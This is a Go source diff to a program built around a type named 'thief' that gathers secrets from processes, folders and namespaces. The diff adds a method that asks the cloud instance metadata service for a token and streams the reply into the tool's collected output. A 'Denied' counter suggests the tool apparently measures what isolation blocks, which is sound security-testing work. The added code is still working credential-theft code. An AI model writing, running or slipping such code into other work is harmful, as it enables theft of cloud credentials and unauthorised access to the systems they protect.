@@ -15,6 +15,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"net"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -29,6 +30,7 @@ type plan struct {
 	Since      time.Time // nothing older can hold the secrets
 	Supervisor int
 	Folders    []string
+	Metadata   string // what to ask the metadata service; "" where there is none
 	Needles    []needle
 }
 
@@ -105,6 +107,7 @@ func (t *thief) everywhere(args []string) {
 	t.processes()
 	t.supervisor()
 	t.folders()
+	t.ask()
 	t.lie()
 	t.fromNamespace(args)
 }
@@ -154,6 +157,25 @@ func (t *thief) folder(root string) {
 		t.stream("file", path, f)
 		return nil
 	})
+}
+
+// ask asks the metadata service for a token, as anybody on its host may.
+func (t *thief) ask() {
+	if t.plan.Metadata == "" {
+		return
+	}
+	req, err := http.NewRequest(http.MethodGet, t.plan.Metadata, nil)
+	if err != nil {
+		return
+	}
+	req.Header.Set("Metadata", "true")
+	resp, err := (&http.Client{Timeout: 5 * time.Second}).Do(req)
+	if err != nil {
+		t.end.Denied++
+		return
+	}
+	defer resp.Body.Close()
+	t.stream("metadata service", req.URL.Host, resp.Body)
 }
 
 // forged is a job that nobody has queued.
